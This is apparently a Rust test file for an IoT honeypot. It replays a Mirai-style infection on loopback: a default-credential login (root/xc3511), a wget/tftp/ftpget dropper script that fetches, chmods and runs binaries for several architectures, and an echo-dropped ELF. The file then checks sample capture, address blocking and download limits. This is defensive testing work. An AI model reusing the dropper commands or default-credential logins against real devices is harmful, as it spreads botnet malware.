//! The downloader end to end: the real binary, a Mirai-style session whose
//! wget, tftp and ftpget point at real servers on loopback (Python's
//! http.server, tftpd-hpa, pyftpdlib), a nested .sh fetching three
//! architectures, an echo-dropped ELF, and forbidden addresses refused
//! without a packet.

mod common;
use common::*;
use iotpot_core::Arch;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn sha(b: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(b))
}

#[test]
fn downloads_become_triaged_samples() {
    require("/usr/bin/python3");
    require("/usr/sbin/in.tftpd");
    let www = TempDir::new("www");
    let (hp_port, tftp_port, ftp_port) = (free_port(), free_port(), free_port());
    let arm7 = elf(Arch::Armhf, "arm7");
    let mips = elf(Arch::Mips, "mips");
    // Mirai's strings: the YARA rules must tag it.
    let x86 = elf(
        Arch::I686,
        "x86\0/dev/watchdog\0TSource Engine Query\0/proc/net/tcp",
    );
    let sh4 = elf(Arch::Sh4, "sh4");
    let ppc = elf(Arch::Ppc, "ppc");
    let m68k = elf(Arch::M68k, "m68k");
    std::fs::create_dir_all(www.0.join("bins")).unwrap();
    for (name, b) in [
        ("mirai.arm7", &arm7),
        ("mirai.mips", &mips),
        ("mirai.x86", &x86),
        ("tftp.sh4", &sh4),
        ("ftp.ppc", &ppc),
        ("follow.m68k", &m68k),
    ] {
        std::fs::write(www.0.join("bins").join(name), b).unwrap();
    }
    let script = format!(
        "#!/bin/sh\ncd /tmp || cd /var/run\nfor a in arm7 mips x86; do wget http://127.0.0.1:{hp_port}/bins/mirai.$a -O m.$a; chmod 777 m.$a; ./m.$a scan; done\n"
    );
    std::fs::write(www.0.join("bins.sh"), &script).unwrap();
    // A script the attacker fetches but never runs: followed anyway.
    let follow = format!("#!/bin/sh\nwget http://127.0.0.1:{hp_port}/bins/follow.m68k -O /tmp/f\n");
    std::fs::write(www.0.join("follow.sh"), &follow).unwrap();
    Command::new("chmod")
        .args(["-R", "a+rX"])
        .arg(&www.0)
        .status()
        .unwrap();
    let _http = http_server(&www.0, hp_port);
    let _tftp = quiet(
        Command::new("/usr/sbin/in.tftpd")
            .args(["-L", "-a", &format!("127.0.0.1:{tftp_port}"), "-s"])
            .arg(www.0.join("bins")),
    );
    let _ftp = quiet(
        Command::new("/usr/bin/python3")
            .args([
                "-m",
                "pyftpdlib",
                "-i",
                "127.0.0.1",
                "-p",
                &ftp_port.to_string(),
                "-d",
            ])
            .arg(www.0.join("bins")),
    );
    wait_port(ftp_port);
    // 127.0.0.2 stays forbidden: a listener there must see no connection.
    let forbidden = TcpListener::bind("127.0.0.2:0").unwrap();
    forbidden.set_nonblocking(true).unwrap();
    let fport = forbidden.local_addr().unwrap().port();

    let mut hp = Honeypot::start(
        "downloads",
        "dvr-xiongmai",
        "[downloader]\nallow = [\"127.0.0.1/32\"]\n",
    );
    let mut bot = Bot::connect(hp.addr);
    bot.login("root", "xc3511");
    bot.cmd("cd /tmp");
    let out = bot.cmd(&format!(
        "wget http://127.0.0.1:{hp_port}/bins.sh; chmod 777 bins.sh; sh bins.sh"
    ));
    assert!(out.contains("bins.sh              100% |"), "{out}");
    assert!(out.contains("m.x86                100% |"), "{out}");
    // The session sees the real bytes.
    let out = bot.cmd("cat m.mips | wc -c");
    assert!(out.lines().any(|l| l.trim() == "3000"), "{out}");
    let out = bot.cmd(&format!(
        "/bin/busybox tftp -g -l t.sh4 -r tftp.sh4 127.0.0.1 {tftp_port}; ls -l t.sh4"
    ));
    assert!(out.contains(" 3000 "), "{out}");
    let out = bot.cmd(&format!(
        "/bin/busybox ftpget -P {ftp_port} 127.0.0.1 f.ppc ftp.ppc; ls -l f.ppc"
    ));
    assert!(out.contains(" 3000 "), "{out}");
    let out = bot.cmd(&format!("wget http://127.0.0.1:{hp_port}/nothing-here"));
    assert!(
        out.contains("wget: server returned error: HTTP/1.0 404")
            || out.contains("wget: server returned error: HTTP/1.1 404"),
        "{out}"
    );
    bot.cmd(&format!("wget http://127.0.0.1:{hp_port}/follow.sh"));
    // Echo-dropped ELF (ARM soft-float).
    let dropped = elf(Arch::Armel, "echo-dropped");
    bot.cmd(">upnp");
    for chunk in dropped.chunks(200) {
        let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        bot.cmd(&format!("echo -ne '{hex}' >> upnp"));
    }
    bot.cmd("chmod 777 upnp; ./upnp");
    // Forbidden, in several spellings.
    for host in [
        "127.0.0.2",
        "0x7f.0.0.2",
        "2130706434",
        "0177.0.0.02",
        "[::ffff:127.0.0.2]",
        "[::1]",
    ] {
        let out = bot.cmd(&format!("wget http://{host}:{fport}/x"));
        assert!(
            out.contains("can't connect to remote host"),
            "{host}: {out}"
        );
    }
    drop(bot);
    hp.stop();
    assert!(
        forbidden.accept().is_err(),
        "a forbidden address was contacted"
    );

    // The store: every sample, byte-exact, read-only, triaged.
    let samples = hp.data().join("samples");
    for b in [&arm7, &mips, &x86, &sh4, &ppc, &dropped] {
        let p = samples.join(sha(b));
        assert_eq!(std::fs::read(&p).unwrap(), *b);
        assert_eq!(
            std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
            0o400
        );
    }
    let listing = hp.cli(&["samples", "--json"]);
    let rows: Vec<serde_json::Value> = listing
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let arch_of = |b: &[u8]| {
        rows.iter()
            .find(|r| r["sha256"] == sha(b).as_str())
            .map(|r| r["arch"].clone())
    };
    assert_eq!(arch_of(&arm7), Some("arm7".into()));
    assert_eq!(arch_of(&mips), Some("mips".into()));
    assert_eq!(arch_of(&x86), Some("x86".into()));
    assert_eq!(arch_of(&sh4), Some("sh4".into()));
    assert_eq!(arch_of(&ppc), Some("ppc".into()));
    assert_eq!(arch_of(&dropped), Some("arm".into()));
    let script_row = rows
        .iter()
        .find(|r| r["sha256"] == sha(script.as_bytes()).as_str())
        .expect("the script is a sample");
    assert_eq!(script_row["kind"], "script");
    assert_eq!(
        script_row["tags"],
        serde_json::json!(["multiarch_dropper_script"])
    );
    let x86_row = rows
        .iter()
        .find(|r| r["sha256"] == sha(&x86).as_str())
        .unwrap();
    assert_eq!(
        x86_row["sources"][0],
        format!("http://127.0.0.1:{hp_port}/bins/mirai.x86")
    );
    assert_eq!(x86_row["triage"]["ips"][0], "203.0.113.77:23");
    assert_eq!(x86_row["tags"], serde_json::json!(["mirai"]));
    let human = hp.cli(&["samples"]);
    assert!(human.contains("arm7") && human.contains("sh4"), "{human}");
    assert!(
        human
            .lines()
            .any(|l| l.contains(&sha(&x86)) && l.contains("mirai")),
        "families are shown: {human}"
    );
    let show = hp.cli(&["samples", "show", &sha(&x86)[..12]]);
    assert!(show.contains("x86") && show.contains("mirai.x86"), "{show}");
    // Events.
    let db = hp.db();
    let count = |sql: &str| -> i64 { db.query_row(sql, [], |r| r.get(0)).unwrap() };
    // Every URL was fetched (some twice: the downloader follows bins.sh on
    // its own while the attacker runs it).
    let fetched: std::collections::BTreeSet<String> = column(
        &db,
        "SELECT json_extract(data, '$.url') FROM events WHERE eventid = 'iotpot.download.success'",
    )
    .into_iter()
    .collect();
    let failed = column(
        &db,
        "SELECT data FROM events WHERE eventid = 'iotpot.download.failed'",
    );
    for u in [
        "bins.sh",
        "bins/mirai.arm7",
        "bins/mirai.mips",
        "bins/mirai.x86",
        "follow.sh",
        "bins/follow.m68k",
    ] {
        assert!(
            fetched.contains(&format!("http://127.0.0.1:{hp_port}/{u}")),
            "{u} not fetched: {fetched:?} {failed:?}"
        );
    }
    assert!(
        fetched.contains(&format!("tftp://127.0.0.1:{tftp_port}/tftp.sh4")),
        "{fetched:?}"
    );
    assert!(
        fetched.iter().any(|u| u.starts_with("ftp://")),
        "{fetched:?}"
    );
    assert!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.download.failed' AND data LIKE '%refused address%'") >= 6);
    // New content is triaged once: 5 fetched ELFs, 2 scripts, the followed
    // m68k ELF, the echo-dropped ELF.
    assert_eq!(
        count("SELECT count(*) FROM events WHERE eventid = 'iotpot.sample.triaged'"),
        9
    );
    let parent: String = db
        .query_row(
            "SELECT json_extract(data, '$.parent') FROM events WHERE eventid = 'iotpot.download.success' AND data LIKE '%follow.m68k%'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(
        parent,
        sha(follow.as_bytes()),
        "the followed file records its script"
    );
    assert_eq!(arch_of(&m68k), Some("m68k".into()));
}

/// A lab web server (Python's http.server) that logs every request it gets
/// as a JSON line: its request line, its header lines as sent (names and
/// order), when it came, and how many `/slow` requests were in progress.
/// `/hang` never answers, `/slow` answers after 1 s, `/r/N` redirects to
/// `/r/N-1` (`/r/0` is a file), anything else is a small file.
const LAB: &str = r#"
import http.server, json, socketserver, sys, threading, time
log = open(sys.argv[2], "a", buffering=1)
lock = threading.Lock()
slow = [0]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a):
        pass
    def do_GET(self):
        p = self.path
        with lock:
            if p.startswith("/slow"):
                slow[0] += 1
            log.write(json.dumps({"line": self.requestline, "headers": list(self.headers.keys()),
                                  "values": dict(self.headers.items()), "at": time.time(),
                                  "slow": slow[0]}) + "\n")
        try:
            if p.startswith("/hang"):
                time.sleep(30)
                return
            if p.startswith("/slow"):
                time.sleep(1)
            if p.startswith("/r/") and int(p.split("/")[2]) > 0:
                self.send_response(302)
                self.send_header("Location", "/r/%d" % (int(p.split("/")[2]) - 1))
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            body = b"\x7fELF lab " + p.encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        finally:
            with lock:
                if p.startswith("/slow"):
                    slow[0] -= 1
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
S(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"#;

/// The lab server on a free port, logging to `dir/lab.log`.
fn lab(dir: &TempDir) -> (Server, u16) {
    require("/usr/bin/python3");
    let port = free_port();
    let script = dir.0.join("lab.py");
    std::fs::write(&script, LAB).unwrap();
    let s = quiet(
        Command::new("/usr/bin/python3")
            .arg(&script)
            .arg(port.to_string())
            .arg(dir.0.join("lab.log")),
    );
    wait_port(port);
    (s, port)
}

/// What the lab server logged.
fn lab_log(dir: &TempDir) -> Vec<serde_json::Value> {
    std::fs::read_to_string(dir.0.join("lab.log"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn requested(log: &[serde_json::Value], path: &str) -> usize {
    let line = format!("GET {path} HTTP/1.1");
    log.iter().filter(|r| r["line"] == line.as_str()).count()
}

/// The downloader's limits, each seen from both ends: the attacker's tool
/// prints what it would print, and the server sees only what the limit
/// allows. A fetch that hangs is cut at `timeout`; a chain of redirects is
/// followed `max_redirects` times; a session's fetches past
/// `max_per_session` never leave; with `max_concurrent = 1` two sessions'
/// fetches reach the server one after the other.
#[test]
fn the_downloader_keeps_its_limits() {
    let dir = TempDir::new("dl-limits");
    let (_lab, port) = lab(&dir);
    let hp = Honeypot::start(
        "dl-limits",
        "dvr-xiongmai",
        "[downloader]\nallow = [\"127.0.0.1/32\"]\ntimeout = 2\nmax_redirects = 2\nmax_per_session = 3\nmax_concurrent = 1\n",
    );
    let url = |p: &str| format!("http://127.0.0.1:{port}{p}");
    let mut a = Bot::connect(hp.addr);
    a.login_ok("root", "xc3511");
    a.run("cd /tmp");
    let t = std::time::Instant::now();
    let out = a.run(&format!("wget {} -O h", url("/hang")));
    let took = t.elapsed().as_secs_f64();
    assert!(
        (1.8..5.0).contains(&took),
        "the hanging fetch took {took} s"
    );
    assert!(
        out.ends_with("wget: can't connect to remote host (127.0.0.1): Connection timed out\n"),
        "{out}"
    );
    let out = a.run(&format!("wget {} -O two", url("/r/2")));
    assert!(out.contains("two                  100% |"), "{out}");
    assert_eq!(a.run("cat two"), "\x7fELF lab /r/0");
    let out = a.run(&format!("wget {} -O three", url("/r/3")));
    assert!(out.ends_with("wget: too many redirections\n"), "{out}");
    // The fourth fetch of this session is not made.
    let out = a.run(&format!("wget {} -O four", url("/fourth")));
    assert!(out.contains("wget: "), "{out}");
    drop(a);

    // Two sessions fetch at once; one fetch runs at a time.
    let addr = hp.addr;
    let fetchers: Vec<_> = ["b", "c"]
        .into_iter()
        .map(|who| {
            let u = url(&format!("/slow/{who}"));
            std::thread::spawn(move || {
                let mut s = Bot::connect(addr);
                s.login_ok("root", "xc3511");
                s.run(&format!("cd /tmp; wget {u} -O {who}"))
            })
        })
        .collect();
    for f in fetchers {
        let out = f.join().unwrap();
        assert!(out.contains("100% |"), "{out}");
    }
    let mut hp = hp;
    hp.stop();

    let log = lab_log(&dir);
    assert_eq!(requested(&log, "/hang"), 1);
    // /r/2 -> /r/1 -> /r/0, then /r/3 -> /r/2 -> /r/1 and no further.
    assert_eq!(
        (
            requested(&log, "/r/3"),
            requested(&log, "/r/2"),
            requested(&log, "/r/1"),
            requested(&log, "/r/0")
        ),
        (1, 2, 2, 1),
        "{log:?}"
    );
    assert_eq!(
        requested(&log, "/fourth"),
        0,
        "max_per_session let a fourth fetch out"
    );
    let slow: Vec<&serde_json::Value> = log
        .iter()
        .filter(|r| r["line"].as_str().unwrap().contains("/slow/"))
        .collect();
    assert_eq!(slow.len(), 2);
    assert!(
        slow.iter().all(|r| r["slow"] == 1),
        "fetches overlapped: {slow:?}"
    );
    let gap = slow[1]["at"].as_f64().unwrap() - slow[0]["at"].as_f64().unwrap();
    assert!(
        gap >= 0.95,
        "the second fetch started {gap} s after the first"
    );
    let reasons = column(
        &hp.db(),
        "SELECT json_extract(data, '$.reason') FROM events WHERE eventid = 'iotpot.download.failed' ORDER BY id",
    );
    assert_eq!(
        reasons,
        [
            "timeout",
            "limit: more than 2 redirects",
            "limit: more than 3 fetches in this session"
        ]
    );
}

/// The requests the downloader sends are the tools' own: for `curl`, what
/// Debian's curl sends (Host, User-Agent: curl/..., Accept: */*); for
/// `wget`, what Debian's BusyBox wget sends (Host, User-Agent: Wget,
/// Connection: close): the same header names in the same order.
#[test]
fn requests_carry_the_tools_own_headers() {
    require("curl");
    let dir = TempDir::new("dl-headers");
    let (_lab, port) = lab(&dir);
    let busybox = std::path::PathBuf::from(
        std::env::var("IOTPOT_ELF_CORPUS")
            .expect("IOTPOT_ELF_CORPUS is not set: run the README's test command (scripts/test)"),
    )
    .join("amd64/busybox");
    // The real tools first.
    run_ok(
        Command::new("curl")
            .args(["-s", "-o", "/dev/null"])
            .arg(format!("http://127.0.0.1:{port}/real/curl")),
    );
    let mut perms = std::fs::metadata(&busybox).unwrap().permissions();
    let copy = dir.0.join("busybox");
    std::fs::copy(&busybox, &copy).unwrap();
    perms.set_mode(0o755);
    std::fs::set_permissions(&copy, perms).unwrap();
    run_ok(
        Command::new(&copy)
            .args(["wget", "-q", "-O", "/dev/null"])
            .arg(format!("http://127.0.0.1:{port}/real/wget")),
    );
    // Then the honeypot's, on an attacker's behalf, as an ASUS router
    // (Asuswrt ships curl beside BusyBox's wget).
    let text = run_ok(Command::new(BIN).args(["profiles", "show", "router-asus"]));
    let mut asus: toml::Value = toml::from_str(&text).unwrap();
    asus["name"] = "router-asus-curl".into();
    asus["system"]
        .as_table_mut()
        .unwrap()
        .insert("applets".into(), vec!["wget", "curl", "cat", "ls"].into());
    let profile = dir.0.join("router-asus-curl.toml");
    std::fs::write(&profile, toml::to_string(&asus).unwrap()).unwrap();
    let mut hp = Honeypot::start(
        "dl-headers",
        profile.to_str().unwrap(),
        "[downloader]\nallow = [\"127.0.0.1/32\"]\n",
    );
    let mut bot = Bot::break_in(hp.addr, &profile_logins("router-asus"));
    bot.run(&format!("cd /tmp; curl -s -O http://127.0.0.1:{port}/iotpot/curl; wget -q http://127.0.0.1:{port}/iotpot/wget"));
    drop(bot);
    hp.stop();
    let log = lab_log(&dir);
    let of = |path: &str| {
        log.iter()
            .find(|r| r["line"] == format!("GET {path} HTTP/1.1").as_str())
            .unwrap_or_else(|| panic!("no request for {path}: {log:?}"))
            .clone()
    };
    for tool in ["curl", "wget"] {
        let (real, ours) = (of(&format!("/real/{tool}")), of(&format!("/iotpot/{tool}")));
        assert_eq!(
            ours["headers"], real["headers"],
            "{tool}: header names and order"
        );
        for h in ["Accept", "Connection"] {
            assert_eq!(ours["values"][h], real["values"][h], "{tool}: {h}");
        }
    }
    assert!(of("/iotpot/curl")["values"]["User-Agent"]
        .as_str()
        .unwrap()
        .starts_with("curl/"));
    assert_eq!(of("/iotpot/wget")["values"]["User-Agent"], "Wget");
}

/// A hostile FTP server whose PASV reply points at another address (a
/// forbidden one) cannot move the downloader: the data connection goes to
/// the server the control connection reached, and the other address sees
/// nothing. The server is a Python script; the trap listens on 127.0.0.2.
#[test]
fn a_hostile_pasv_reply_cannot_point_the_downloader_elsewhere() {
    require("/usr/bin/python3");
    let dir = TempDir::new("dl-pasv");
    let (ctl, data) = (free_port(), free_port());
    let trap = TcpListener::bind(("127.0.0.2", data)).unwrap();
    trap.set_nonblocking(true).unwrap();
    let script = format!(
        r#"
import socket, threading
ctl = socket.socket(); ctl.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ctl.bind(("127.0.0.1", {ctl})); ctl.listen(1)
data = socket.socket(); data.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
data.bind(("127.0.0.1", {data})); data.listen(1)
def serve(c):
    f = c.makefile("rb")
    c.sendall(b"220 evil ftp\r\n")
    while True:
        line = f.readline().decode().strip()
        if not line:
            return
        verb = line.split(" ")[0].upper()
        if verb == "USER": c.sendall(b"331 ok\r\n")
        elif verb == "PASS": c.sendall(b"230 ok\r\n")
        elif verb == "TYPE": c.sendall(b"200 ok\r\n")
        elif verb == "PASV": c.sendall(b"227 Entering Passive Mode (127,0,0,2,{p1},{p2})\r\n")
        elif verb == "RETR":
            c.sendall(b"150 here it comes\r\n")
            d, _ = data.accept()
            d.sendall(b"\x7fELF from the control host")
            d.close()
            c.sendall(b"226 done\r\n")
        elif verb == "QUIT":
            c.sendall(b"221 bye\r\n")
            return
        else: c.sendall(b"500 no\r\n")
while True:
    c, _ = ctl.accept()
    try:
        serve(c)
    except OSError:
        pass
    c.close()
"#,
        p1 = data / 256,
        p2 = data % 256
    );
    let path = dir.0.join("evil_ftp.py");
    std::fs::write(&path, script).unwrap();
    let _ftp = quiet(Command::new("/usr/bin/python3").arg(&path));
    wait_port(ctl);
    let mut hp = Honeypot::start(
        "dl-pasv",
        "dvr-xiongmai",
        "[downloader]\nallow = [\"127.0.0.1/32\"]\n",
    );
    let mut bot = Bot::connect(hp.addr);
    bot.login_ok("root", "xc3511");
    let out = bot.run(&format!(
        "cd /tmp; ftpget -P {ctl} 127.0.0.1 got evil.bin; cat got"
    ));
    assert_eq!(out, "\x7fELF from the control host");
    drop(bot);
    hp.stop();
    assert!(trap.accept().is_err(), "the PASV address was contacted");
}
